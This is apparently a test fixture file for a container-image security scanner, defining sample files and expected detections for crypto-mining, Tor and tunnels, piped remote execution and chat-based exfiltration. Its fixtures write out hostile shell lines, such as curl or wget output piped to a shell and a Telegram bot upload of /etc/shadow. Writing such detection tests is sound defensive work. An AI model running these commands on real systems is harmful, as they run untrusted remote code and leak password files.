import { buildElf } from '../../src/inspect/testing/elf-builder.ts';
import { WALLET } from './config.ts';
import type { Exhibit } from './exhibit.ts';

/* Indicators 44 to 48. The onion address is of the specification's example key; tokens are shaped like some, and nobody's. */

const ONION = '25njqamcweflpvkl73j4szahhihoc4xt3ktcgjnpaingr5yhkenl5sid.onion';
const BOT = `1234567890:AA${'x'.repeat(33)}`;
const HOOK = `https://discord.com/api/webhooks/123456789012345678/${'x'.repeat(68)}`;

const sh = (text: string) => ({ data: `#!/bin/sh\n${text}\n`, mode: 0o755 });

export const NETWORK: readonly Exhibit[] = [
  {
    indicator: 44,
    name: 'stratum in a program',
    layers: [
      { 'opt/app/x': { data: buildElf({ payload: 'stratum+ssl://pool.invalid:443\0' }), mode: 0o755 } },
    ],
    expect: { rule: 'network/mining-pool', tier: 'block', path: 'opt/app/x', layer: 1 },
  },
  {
    indicator: 44,
    name: 'a known pool in a script',
    layers: [{ 'opt/x.sh': sh('./a -o pool.supportxmr.com:443 --tls') }],
    expect: { rule: 'network/mining-pool', tier: 'block', path: 'opt/x.sh', layer: 1, line: 2 },
  },
  {
    indicator: 44,
    name: 'stratum in a configuration',
    layers: [{ 'app/config.json': '{"pools": [{"url": "stratum+tcp://pool.invalid:3333"}]}\n' }],
    expect: { rule: 'network/mining-pool', tier: 'block', path: 'app/config.json', layer: 1, line: 1 },
  },
  {
    indicator: 45,
    name: 'a wallet beside a pool',
    layers: [{ 'app/config.json': `{"pools": [{"url": "a.invalid:3333", "user": "${WALLET}"}]}\n` }],
    expect: { rule: 'network/mining-wallet', tier: 'block', path: 'app/config.json', layer: 1, line: 1 },
  },
  ...(
    [
      ['an onion address', sh(`curl http://${ONION}/`), 'opt/x.sh'],
      ['a bundled Tor', { data: buildElf({ payload: 'HiddenServiceDir\0' }), mode: 0o755 }, 'opt/app/t'],
      ['a dynamic name', sh('curl -o /srv/list http://c2-a1.duckdns.org/list'), 'opt/x.sh'],
      ['a tunnel', sh('ssh -R 80:localhost:3000 serveo.net'), 'opt/x.sh'],
    ] as const
  ).map(([name, file, path]) => ({
    indicator: 46,
    name,
    layers: [{ [path]: file }],
    expect: { rule: 'network/hidden-service', tier: 'review', path, layer: 1 } as const,
  })),
  {
    indicator: 46,
    name: 'a quick tunnel in the command',
    config: { Cmd: ['cloudflared', 'tunnel', '--url', 'http://localhost:80'] },
    expect: { rule: 'network/hidden-service', tier: 'review', config: 'Cmd' },
  },
  {
    indicator: 47,
    name: 'a paste that is run',
    layers: [{ 'opt/x.sh': sh('curl -s https://pastebin.com/raw/abc123 | bash') }],
    expect: { rule: 'network/fed-execution', tier: 'review', path: 'opt/x.sh', layer: 1, line: 2 },
  },
  {
    indicator: 47,
    name: 'a bare address that is run',
    layers: [{ 'opt/x.sh': sh('wget -qO- http://203.0.113.7/a.sh | sh') }],
    expect: { rule: 'network/fed-execution', tier: 'review', path: 'opt/x.sh', layer: 1, line: 2 },
  },
  {
    indicator: 48,
    name: 'a Telegram bot',
    layers: [{ 'opt/x.sh': sh(`curl https://api.telegram.org/bot${BOT}/sendMessage -d text=up`) }],
    expect: { rule: 'network/chat-exfiltration', tier: 'review', path: 'opt/x.sh', layer: 1, line: 2 },
  },
  {
    indicator: 48,
    name: 'a Discord webhook',
    layers: [{ 'app/x.py': `requests.post("${HOOK}", json={})\n` }],
    expect: { rule: 'network/chat-exfiltration', tier: 'review', path: 'app/x.py', layer: 1, line: 1 },
  },
  {
    indicator: 48,
    name: 'a bot that is given a secret',
    layers: [
      { 'opt/x.sh': sh(`curl https://api.telegram.org/bot${BOT}/sendDocument -F document=@/etc/shadow`) },
    ],
    expect: { rule: 'network/chat-exfiltration', tier: 'block', path: 'opt/x.sh', layer: 1, line: 2 },
  },
];
